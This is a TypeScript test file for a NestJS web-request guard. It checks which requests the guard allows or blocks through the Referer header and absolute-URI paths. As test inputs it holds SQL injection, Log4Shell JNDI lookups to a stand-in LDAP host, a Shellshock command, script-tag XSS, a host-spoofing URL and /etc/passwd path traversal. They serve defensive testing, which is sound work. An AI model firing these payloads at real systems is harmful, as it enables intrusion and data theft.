import { Controller, Get } from '@nestjs/common';
import { ContentProfile } from 'nestjs-guard';
import { adapters, startApp } from '../../support/guarded-app';

const HOST = 'shop.example';
const QUERY = `q=${encodeURIComponent("name = 'x' or '1'='1' --")}`;

@Controller()
class PagesController {
  @Get('search')
  @ContentProfile('search')
  search() {
    return [];
  }

  @Get('page')
  page() {
    return {};
  }
}

describe.each(adapters)('the address of the app itself, on %s', (adapter) => {
  const start = () =>
    startApp(adapter, {
      controllers: [PagesController],
      guard: { detection: { exclude: [{ category: 'sqli', route: '/search', field: 'q' }] } },
    });

  it('may stand in the Referer with a query that its own route allows', async () => {
    const app = await start();
    const from = (referer: string) => app.send({ path: '/page', headers: { host: HOST, referer } });
    expect((await app.send({ path: `/search?${QUERY}` })).status).toBe(200);
    expect((await from(`https://${HOST}/search?${QUERY}`)).status).toBe(200);
    expect(app.events).toEqual([]);
    expect((await from(`https://elsewhere.example/search?${QUERY}`)).status).toBe(403);
    expect((await from(`https://${HOST}@elsewhere.example/search?${QUERY}`)).status).toBe(403);
    expect((await from(`https://${HOST}/<script>go()</script>?${QUERY}`)).status).toBe(403);
    for (const lookup of [
      '${jndi:ldap://a.example/x}',
      '() { :;}; id',
      '%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fx%7D',
      '${env:KEY=1}',
    ])
      for (const query of [`q=${lookup}`, `${lookup}=1`, `a=1&${lookup}`])
        expect((await from(`https://${HOST}/search?${query}`)).status).toBe(403);
  });

  it('may stand in front of the path', async () => {
    const app = await start();
    const ask = (path: string) => app.send({ path: `http://127.0.0.1:${app.port}${path}` });
    expect((await ask('/page')).status).toBe(200);
    expect((await ask(`/search?${QUERY}`)).status).toBe(200);
    expect(app.events).toEqual([]);
    expect((await ask('/page?a=<script>go()</script>')).status).toBe(403);
    expect((await ask('/files/..%2f..%2fetc%2fpasswd')).status).toBe(403);
    expect(app.events.at(-1)).toMatchObject({ path: '/files/..%2f..%2fetc%2fpasswd' });
  });
});
